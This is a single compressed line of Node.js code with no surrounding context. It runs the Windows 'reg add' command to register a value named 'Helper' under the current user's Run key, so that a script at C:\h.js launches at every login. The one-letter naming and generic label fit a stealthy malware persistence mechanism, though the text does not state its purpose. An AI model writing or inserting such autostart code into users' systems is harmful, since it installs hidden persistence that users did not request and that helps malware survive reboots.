const{execSync:e}=require("child_process");e('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Helper /d "node C:\\\\h.js" /f');
